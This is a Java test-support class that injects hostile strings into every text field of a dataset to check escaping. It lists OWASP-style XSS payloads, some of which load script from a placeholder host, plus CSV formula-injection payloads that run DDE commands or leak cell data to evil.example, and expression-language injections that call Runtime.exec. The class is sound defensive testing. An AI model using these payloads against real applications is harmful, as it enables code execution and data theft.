package org.kdk.core.testing;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.kdk.core.dataset.Dataset;
import org.kdk.core.json.InvalidDocumentException;
import org.kdk.core.json.KdkJson;

/**
 * Saldırı metinleri — attack payloads for the texts of a dataset, and a way to put them into every text field of
 * one: XSS payloads in the style of the OWASP XSS Filter Evasion Cheat Sheet, CSV-injection payloads from the
 * OWASP CSV Injection page, and expression-language and message-template payloads.
 */
public final class HostileTexts {
  /** Markup that a browser would run or load if it reached a page unescaped. */
  public static final List<String> XSS = List.of(
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
      "\"><img src=x onerror=alert(1)>",
      "'><svg/onload=alert('XSS')>",
      "<IMG SRC=\"javascript:alert('XSS');\">",
      "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
      "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
          + "&#97;&#108;&#101;&#114;&#116;&#40;&#39;1&#39;&#41;>",
      "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
      "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
      "<BODY ONLOAD=alert('XSS')>",
      "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
      "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
      "<STYLE>@import'//xss.example/xss.css';</STYLE>",
      "</title><script>alert(1)</script>",
      "</style></textarea></script><script>alert(1)</script>",
      "<!--<script>alert(1)</script>-->",
      "<![CDATA[<script>alert(1)</script>]]>",
      "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
      "javascript:/*--></title></style></textarea></script></xmp>"
          + "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
      "'';!--\"<XSS>=&{()}",
      "[tıkla](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example>",
      "a\u0000<script>alert(1)</script>\u0007");

  /** Cell texts that a spreadsheet would evaluate as a formula (or a DDE call) if written as they are. */
  public static final List<String> CSV = List.of(
      "=cmd|' /C calc'!A0",
      "=1+2",
      "+1+1",
      "-2+3",
      "@SUM(1,1)",
      "\t=1+2",
      "\r=1+2",
      "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Tıklayın\")",
      "=IMPORTXML(CONCAT(\"https://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
      "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      "+\"=1+2\";=1+2,=3+4");

  /**
   * Expression-language and message-template syntax that must stay text wherever it is shown; where it was
   * evaluated, {@link #EVALUATED} would show.
   */
  public static final List<String> EXPRESSIONS = List.of(
      "${'kdk'.concat('-evaluated')}",
      "#{'kdk'.concat('-evaluated')}",
      "${7*191}",
      "#{7*191}",
      "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
      "#{T(java.lang.Runtime).getRuntime().exec('id')}",
      "${validatedValue}",
      "{jakarta.validation.constraints.NotBlank.message}",
      "{max} {min} {value}",
      "{0} {1}",
      "'{0}' ''",
      "%s %n %x");

  /** What the first two {@link #EXPRESSIONS} give when an expression language evaluates them. */
  public static final String EVALUATED = "kdk-evaluated";

  private static final ObjectMapper MAPPER = new ObjectMapper();

  private HostileTexts() {}

  /** Texts drawn from {@code payloads}. */
  public static Gen<String> from(List<String> payloads) {
    return Gen.of(payloads);
  }

  /**
   * {@code dataset} with the payloads in every text field it has: each string field of the written document
   * that still reads as a dataset with other text in it (names, titles, texts, reasons, units, indicator codes,
   * descriptions, agendas…, but not ids, enumerated codes, dates or periods) gets the payloads in turn, made unique
   * by a number where the dataset needs unique texts (party group names). Province codes are kept: they name
   * the catalogue's provinces, which the reports are about.
   */
  public static Dataset withEveryText(Dataset dataset, List<String> payloads) {
    Objects.requireNonNull(dataset, "dataset");
    if (payloads.isEmpty()) {
      throw new IllegalArgumentException("no payloads");
    }
    JsonNode root;
    try {
      root = MAPPER.readTree(KdkJson.strict().write(dataset));
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
    Map<String, List<Leaf>> fields = new LinkedHashMap<>();
    collect(root, "", fields);
    int next = 0;
    for (List<Leaf> leaves : fields.values()) {
      List<String> originals = new ArrayList<>();
      leaves.forEach(leaf -> originals.add(leaf.get()));
      boolean placed = false;
      for (boolean numbered : new boolean[] {false, true}) {
        for (int i = 0; i < leaves.size(); i++) {
          String payload = payloads.get((next + i) % payloads.size());
          leaves.get(i).set(numbered ? payload + " " + (i + 1) : payload);
        }
        if (reads(root)) {
          placed = true;
          break;
        }
      }
      if (placed) {
        next += leaves.size();
      } else {
        for (int i = 0; i < leaves.size(); i++) {
          leaves.get(i).set(originals.get(i));
        }
      }
    }
    return KdkJson.strict().readDataset(root.toString());
  }

  private static boolean reads(JsonNode root) {
    try {
      KdkJson.strict().readDataset(root.toString());
      return true;
    } catch (InvalidDocumentException e) {
      return false;
    }
  }

  /** The string leaves of {@code node}, grouped by their path without list indices ({@code plans.title}). */
  private static void collect(JsonNode node, String path, Map<String, List<Leaf>> fields) {
    if (node instanceof ObjectNode) {
      ObjectNode object = (ObjectNode) node;
      object.fieldNames().forEachRemaining(name -> {
        JsonNode child = object.get(name);
        String at = path.isEmpty() ? name : path + "." + name;
        if (child.isTextual()) {
          if (!at.equals("format") && !name.equals("provinceCode")) {
            fields.computeIfAbsent(at, k -> new ArrayList<>()).add(new Leaf(object, name, -1));
          }
        } else {
          collect(child, at, fields);
        }
      });
    } else if (node instanceof ArrayNode) {
      ArrayNode array = (ArrayNode) node;
      for (int i = 0; i < array.size(); i++) {
        if (array.get(i).isTextual()) {
          fields.computeIfAbsent(path + "[]", k -> new ArrayList<>()).add(new Leaf(array, null, i));
        } else {
          collect(array.get(i), path, fields);
        }
      }
    }
  }

  /** One string in the tree: a field of an object or an element of an array. */
  private static final class Leaf {
    final JsonNode parent;
    final String name;
    final int index;

    Leaf(JsonNode parent, String name, int index) {
      this.parent = parent;
      this.name = name;
      this.index = index;
    }

    String get() {
      return name != null ? parent.get(name).asText() : parent.get(index).asText();
    }

    void set(String text) {
      if (name != null) {
        ((ObjectNode) parent).set(name, TextNode.valueOf(text));
      } else {
        ((ArrayNode) parent).set(index, TextNode.valueOf(text));
      }
    }
  }
}
